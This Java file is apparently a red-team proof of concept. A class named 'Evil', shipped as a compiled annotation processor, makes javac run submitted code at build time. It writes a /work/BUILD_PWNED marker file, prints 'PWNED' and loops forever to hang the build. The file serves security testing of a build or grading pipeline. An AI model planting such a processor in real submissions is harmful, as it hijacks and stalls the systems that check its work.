// Red team: shipped compiled next to META-INF/services/javax.annotation.processing.Processor,
// javac found it on its default class path (the submission's folder) and ran it.
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Set;
import javax.annotation.processing.AbstractProcessor;
import javax.annotation.processing.ProcessingEnvironment;
import javax.annotation.processing.RoundEnvironment;
import javax.annotation.processing.SupportedAnnotationTypes;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;

@SupportedAnnotationTypes("*")
public class Evil extends AbstractProcessor {
    @Override
    public synchronized void init(ProcessingEnvironment env) {
        super.init(env);
        try {
            Files.writeString(Path.of("/work/BUILD_PWNED"), "javac ran the submission's processor");
        } catch (Exception e) {
            // keep going
        }
        System.out.println("PWNED");
        while (true) {
            Thread.onSpinWait();
        }
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        return false;
    }

    @Override
    public SourceVersion getSupportedSourceVersion() {
        return SourceVersion.latestSupported();
    }
}
